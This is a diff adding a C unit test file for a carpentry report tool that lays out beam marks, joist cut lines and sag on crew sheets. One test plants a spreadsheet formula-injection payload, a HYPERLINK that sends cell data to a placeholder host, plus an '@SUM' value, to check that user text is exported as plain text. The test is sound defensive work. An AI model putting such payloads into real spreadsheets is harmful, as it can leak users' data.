@@ -1,0 +1,295 @@
+/* The crew's sheets: marks and cut lines against figures worked by hand, no money, user text that stays text. */
+#include <ctype.h>
+#include <math.h>
+
+#include "packages.h"
+#include "samples.h"
+
+#include "../../src/report/cells.h"
+#include "../../src/report/field.h"
+#include "../../src/report/workbook.h"
+
+static const struct field_part *part_of_beam(const struct field *field, const char *sheet, const char *key)
+{
+    for (size_t i = 0; i < field->count; i++)
+        for (size_t k = 0; !strcmp(field->sheet[i].id, sheet) && k < field->sheet[i].count; k++)
+            if (!strcmp(field->sheet[i].part[k].key, key))
+                return &field->sheet[i].part[k];
+    fail();
+    return NULL;
+}
+
+static const struct field_table *table_of(const struct field_part *part, const char *key)
+{
+    for (size_t i = 0; i < part->count; i++)
+        if (part->item[i].is == FIELD_TABLE && !strcmp(part->item[i].table->key, key))
+            return part->item[i].table;
+    fail();
+    return NULL;
+}
+
+static bool says(const struct field_part *part, enum field_is is, const char *what)
+{
+    for (size_t i = 0; i < part->count; i++)
+        if (part->item[i].is == is && strstr(part->item[i].text, what))
+            return true;
+    return false;
+}
+
+static struct field field_of_sample(struct arena *arena, const char *name)
+{
+    struct report report = report_of(run_sample(arena, name));
+    return field_of(arena, &report);
+}
+
+/* The marks of a row: from `start`, every `spacing`, `count` of them. */
+static void assert_row(const struct field_cell *row, double start, double spacing, size_t count)
+{
+    assert_near(row[2].number, start, 1e-9);
+    assert_near(row[3].number, spacing, 1e-9);
+    assert_near(row[4].number, (double)count, 1e-9);
+    assert_int_equal(row[5].count, count);
+    for (size_t i = 0; i < count; i++)
+        assert_near(length_inches(row[5].length[i]), start + spacing * (double)i, 1e-9);
+}
+
+/* By hand, from the counting rules: cut length 128; bearings 3.5 and 4.5; S = 12, stagger 6, nails 0.162 x 3.5 in from
+ * both faces of 4.5 in: they meet, m = 15 x 0.162 = 2.43, up to 2-7/16.  Face A: joists at 7, 23, ...: no mark within
+ * 2-1/4 in, which leaves 9.25 to 20.75 modulo 16.  12, 11, 10 and 9 in come back every 4, 1, 2 and 1 in: none clears a
+ * zone of 4.5 in.  8 in does: a start s and s + 8 are clear modulo 16 when s is in 3.5 to 4.75 or 9.25 to 11.5.  Row 1:
+ * 3.5, (128 - 4.5 - 3.5) / 8 = 15: 16 marks.  Row 2: near 3.5 + 6 x 8 / 12 = 7.5 is 9.25 (4.75 is farther): (123.5 -
+ * 9.25) / 8 = 14.3: 15.  Face B: joists 1-1/2 in further on: clear are 3.5 to 6.25 and 10.75 to 11.5.  Row 1 near 3.5 +
+ * 4: 6.25, and 2.75 from 3.5 is more than m: 15.  Row 2 near 9.25 + 4 = 13.25, round 8 in that is 5.25: clear: 15. */
+static void marks_as_worked_by_hand(void **state)
+{
+    struct field field = field_of_sample(*state, "parlor.ini");
+    const struct field_table *marks = table_of(part_of_beam(&field, "beam parlor", "marks"), "marks");
+    assert_int_equal(marks->rows, 6);
+    assert_row(marks->row[0], 3.5, 8, 16);
+    assert_row(marks->row[1], 9.25, 8, 15);
+    assert_row(marks->row[3], 6.25, 8, 15);
+    assert_row(marks->row[4], 5.25, 8, 15);
+    /* as the tape is read: 3.5 + 8 x 15 = 123.5 in is the last */
+    assert_non_null(strstr(marks->row[0][5].text, "3-1/2\", 11-1/2\", 1' 7-1/2\", 2' 3-1/2\""));
+    assert_non_null(strstr(marks->row[0][5].text, ", 10' 3-1/2\""));
+    /* joists of 1-1/2 in on face A at 7, 23, ... 119 */
+    assert_string_equal(marks->row[2][1].text, "hangers");
+    assert_int_equal(marks->row[2][5].count, 16);
+    for (size_t i = 0; i < 8; i++) {
+        assert_near(length_inches(marks->row[2][5].length[2 * i]), 6.25 + 16 * (double)i, 1e-9);
+        assert_near(length_inches(marks->row[2][5].length[2 * i + 1]), 7.75 + 16 * (double)i, 1e-9);
+    }
+    assert_near(length_inches(marks->row[5][5].length[0]), 7.75, 1e-9); /* lapped: face B 1-1/2 in further on */
+}
+
+/* Half of 4-1/2 in and 1/16 in clear: 2.3125 from the middle line; 11 ft 3 in less that stays, and 8 ft 9 in less it.
+ * Dead load on one joist's end: 12 psf x 16 / 12 ft x 11.25 / 2 ft = 90 lb. */
+static void cut_lines_as_worked_by_hand(void **state)
+{
+    struct field field = field_of_sample(*state, "parlor.ini");
+    const struct field_part *part = part_of_beam(&field, "beam parlor", "joists");
+    const struct field_table *joists = table_of(part, "joists");
+    assert_true(says(part, FIELD_SAY, "CUT LINE 2-5/16\""));
+    assert_int_equal(joists->rows, 16);
+    for (size_t i = 0; i < 8; i++) {
+        assert_near(joists->row[i][2].number, 7 + 16 * (double)i, 1e-9);
+        assert_near(joists->row[i][4].number, 135 - 2.3125, 1e-9);
+        assert_near(joists->row[i][6].number, 90, 1e-9);
+        assert_near(joists->row[8 + i][2].number, 8.5 + 16 * (double)i, 1e-9);
+        assert_near(joists->row[8 + i][4].number, 105 - 2.3125, 1e-9);
+    }
+}
+
+/* 5 w L^4 / (384 E I): w = 12 psf x (11.25 + 8.75) / 2 ft = 120 plf = 10 lb/in on L = 128 - 3.5 / 2 - 4.5 / 2 = 124 in;
+ * E 1,600,000 psi (NDS Supplement Table 4A, Douglas Fir-Larch No.2), I = 4.5 x 9.25^3 / 12 = 296.79 in4:
+ * 5 x 10 x 124^4 / (384 x 1.6e6 x 296.79) = 0.06483 in, in the middle, 1.75 + 62 = 63.75 from end 1.  Times 1.5:
+ * 0.0972. */
+static void sag_as_worked_by_hand(void **state)
+{
+    struct result *result = run_sample(*state, "parlor.ini");
+    const struct beam_design *beam = &result->outcome->run->design->beams[0];
+    assert_near(beam->dead_sag_in, 0.06483, 0.00005);
+    assert_near(beam->dead_sag_at_in, 63.75, 0.1);
+    struct report report = report_of(result);
+    struct field field = field_of(*state, &report);
+    const struct field_part *part = part_of_beam(&field, "beam parlor", "lower");
+    assert_true(says(part, FIELD_SAY, "5' 3-3/4\" from END 1"));
+    assert_true(says(part, FIELD_SAY, ": 0.065 in"));
+    assert_true(says(part, FIELD_STOP, "at 0.097 in (1.5 times"));
+}
+
+/* "A5 to A8" -> 8, "A5" -> 5, "-" -> what it was */
+static int last_of(const char *text, int was)
+{
+    const char *c = text + strlen(text);
+    int number = 0, place = 1;
+    while (c > text && c[-1] >= '0' && c[-1] <= '9') {
+        number += (*--c - '0') * place;
+        place *= 10;
+    }
+    return number ? number : was;
+}
+
+/* The same in the JSON of a bid, and of the sheets. */
+static void json_has_marks_and_cut_lines(void **state)
+{
+    struct report report = report_of(run_sample(*state, "parlor.ini"));
+    const char *bid = report_json(*state, &report), *field = report_field_json(*state, &report);
+    const char *lines = strstr(bid, "\"cut_lines\"");
+    assert_non_null(lines);
+    assert_non_null(strstr(lines, "\"cut_line_in\": 2.3125"));
+    assert_non_null(strstr(lines, "\"guide_line_in\": null"));
+    assert_non_null(strstr(lines, "\"joist_length_in\": 132.6875"));
+    const char *layouts = strstr(bid, "\"ply_layouts\"");
+    assert_non_null(layouts);
+    assert_non_null(strstr(layouts, "\"marks_in\": [3.5, 11.5, 19.5"));
+    assert_non_null(strstr(layouts, "\"marks_text\": [\"3-1/2\\\"\", \"11-1/2\\\"\", \"1' 7-1/2\\\"\""));
+    assert_non_null(strstr(field, "\"format\": \"sawbill field 1\""));
+    assert_non_null(strstr(field, "\"marks_in\": [3.5, 11.5, 19.5"));
+    assert_non_null(strstr(field, "\"cut_in\": 132.6875"));
+}
+
+/* As the check of a beam half hung asks: by turns, at most 4 hangers ahead, and every joist once. */
+static void hang_order_stays_level(void **state)
+{
+    struct field field = field_of_sample(*state, "parlor.ini");
+    const struct field_table *hang = table_of(part_of_beam(&field, "beam parlor", "raise"), "hang");
+    int done[2] = {0, 0};
+    for (size_t i = 0; i < hang->rows; i++)
+        for (int side = 0; side < 2; side++) {
+            int last = last_of(hang->row[i][1 + side].text, done[side]);
+            assert_true(last > done[side]);
+            done[side] = last;
+            assert_true(abs(done[0] - done[1]) <= 4);
+        }
+    assert_int_equal(done[0], 8);
+    assert_int_equal(done[1], 8);
+}
+
+static struct page *field_page(struct arena *arena, const struct report *report)
+{
+    struct book *book = workbook_book(arena, report);
+    for (size_t i = 0; i < book->page_count; i++)
+        if (!strcmp(book->page[i]->name, "Field"))
+            return book->page[i];
+    fail();
+    return NULL;
+}
+
+/* Its cells are texts over columns, nothing else; none has a dollar in it. */
+static void sheet_has_no_money_and_no_formula(void **state)
+{
+    for (size_t i = 0; i < SAMPLES; i++) {
+        struct report report = report_of(run_sample(*state, arena_printf(*state, "%s.ini", samples[i])));
+        const struct page *page = field_page(*state, &report);
+        assert_int_equal(page->count, 0);
+        assert_true(page->span_count > 300);
+        assert_non_null(strstr(page->span[1].text, "INTERNAL"));
+        for (size_t k = 0; k < page->span_count; k++)
+            assert_null(strchr(page->span[k].text, '$'));
+        assert_null(strchr(report_field(*state, &report, false, 100), '$'));
+        assert_null(strchr(report_field_json(*state, &report), '$'));
+    }
+}
+
+static char *replaced(struct arena *arena, const char *text, const char *old, const char *new)
+{
+    const char *at = strstr(text, old);
+    assert_non_null(at);
+    return arena_printf(arena, "%.*s%s%s", (int)(at - text), text, new, at + strlen(old));
+}
+
+static const char HOSTILE[] = "=HYPERLINK(\"http://x/?\"&A1,\"ok\")";
+
+static void user_text_stays_text(void **state)
+{
+    char *text = replaced(*state, read_sample(*state, "parlor.ini"),
+                          "floor joists that run across it, beam below within", arena_printf(*state, "%s", HOSTILE));
+    text = replaced(*state, text, "outlet circuit at the parlor side", "@SUM(A1)");
+    struct report report = report_of(run_text(*state, "parlor.ini", text));
+    const struct page *page = field_page(*state, &report);
+    bool found = false;
+    assert_int_equal(page->count, 0);
+    for (size_t k = 0; k < page->span_count; k++)
+        found |= strstr(page->span[k].text, HOSTILE) != NULL;
+    assert_true(found);
+    const char *folder = new_folder(*state), *written = NULL, *why = NULL;
+    assert_int_equal(report_workbook(*state, &report, arena_printf(*state, "%s/a.xlsx", folder), &written, &why),
+                     WRITE_DONE);
+    const char *sheet = part_of(*state, written, "xl/worksheets/sheet8.xml"); /* Field */
+    assert_null(strstr(sheet, "<f>"));
+    assert_null(strstr(sheet, "<v>0."));
+    assert_null(strchr(report_field(*state, &report, false, 100), '\033'));
+}
+
+static void same_bytes_twice(void **state)
+{
+    for (size_t i = 0; i < SAMPLES; i++) {
+        struct report ini = report_of(run_sample(*state, arena_printf(*state, "%s.ini", samples[i])));
+        struct report json = report_of(run_sample(*state, arena_printf(*state, "%s.json", samples[i])));
+        assert_string_equal(report_field(*state, &ini, false, 100), report_field(*state, &json, false, 100));
+        assert_string_equal(report_field_json(*state, &ini), report_field_json(*state, &ini));
+    }
+}
+
+/* What must not be split over two lines is not: a tape reading is one word. */
+static void readings_are_not_split(void **state)
+{
+    assert_string_equal(field_shown(*state, "at 7' 2\", 3' long"), "at 7'\xC2\xA0"
+                                                                   "2\", 3' long");
+    assert_string_equal(field_unbroken(*state, "A1 to"), "A1\xC2\xA0to");
+    struct report report = report_of(run_sample(*state, "parlor.ini"));
+    for (int width = 60; width <= 140; width += 20) {
+        const char *text = report_field(*state, &report, false, width);
+        for (const char *end = strchr(text, '\n'); end; end = strchr(end + 1, '\n')) {
+            const char *next = end + 1 + strspn(end + 1, " "); /* "each 8'" may end a line, 8' 2" not within */
+            assert_false(end > text + 1 && end[-1] == '\'' && isdigit((unsigned char)next[0]));
+        }
+    }
+}
+
+/* The stop box names what stands open; a budget is not built from. */
+static void stop_box_says_what_is_open(void **state)
+{
+    char *text = replaced(*state, read_sample(*state, "parlor.ini"), "bracing = no\n", "");
+    struct report report = report_of(run_text(*state, "parlor.ini", text));
+    report.signable = false;
+    struct field field = field_of(*state, &report);
+    const struct field_part *part = part_of_beam(&field, "beam parlor", "stop");
+    assert_true(says(part, FIELD_STOP, "OPEN: Q004"));
+    assert_false(says(part, FIELD_SAY, "none."));
+    text = replaced(*state, text, "status = bid", "status = budget");
+    report = report_of(run_text(*state, "parlor.ini", text));
+    report.signable = false;
+    field = field_of(*state, &report);
+    assert_true(says(part_of_beam(&field, "beam parlor", "stop"), FIELD_STOP, "BUDGET"));
+}
+
+/* An engineer's sheet and revision; a tie strap for each pair; the carrier first. */
+static void sheets_say_what_the_job_says(void **state)
+{
+    struct field field = field_of_sample(*state, "two-beams.ini");
+    assert_int_equal(field.count, 3); /* two beams and the whole job */
+    assert_true(says(part_of_beam(&field, "beam long", "stop"), FIELD_TICK, "sheet S1, revision A"));
+    assert_true(says(part_of_beam(&field, "beam short", "raise"), FIELD_SAY, "END 2 hangs on beam long"));
+    field = field_of_sample(*state, "attic.ini");
+    assert_true(says(part_of_beam(&field, "beam attic", "stop"), FIELD_TICK, "8 pairs"));
+}
+
+int main(void)
+{
+    const struct CMUnitTest tests[] = {
+        cmocka_unit_test_setup_teardown(marks_as_worked_by_hand, support_setup, support_teardown),
+        cmocka_unit_test_setup_teardown(cut_lines_as_worked_by_hand, support_setup, support_teardown),
+        cmocka_unit_test_setup_teardown(sag_as_worked_by_hand, support_setup, support_teardown),
+        cmocka_unit_test_setup_teardown(json_has_marks_and_cut_lines, support_setup, support_teardown),
+        cmocka_unit_test_setup_teardown(hang_order_stays_level, support_setup, support_teardown),
+        cmocka_unit_test_setup_teardown(sheet_has_no_money_and_no_formula, support_setup, support_teardown),
+        cmocka_unit_test_setup_teardown(user_text_stays_text, support_setup, packages_teardown),
+        cmocka_unit_test_setup_teardown(same_bytes_twice, support_setup, support_teardown),
+        cmocka_unit_test_setup_teardown(readings_are_not_split, support_setup, support_teardown),
+        cmocka_unit_test_setup_teardown(stop_box_says_what_is_open, support_setup, support_teardown),
+        cmocka_unit_test_setup_teardown(sheets_say_what_the_job_says, support_setup, support_teardown),
+    };
+    return cmocka_run_group_tests(tests, NULL, NULL);
+}
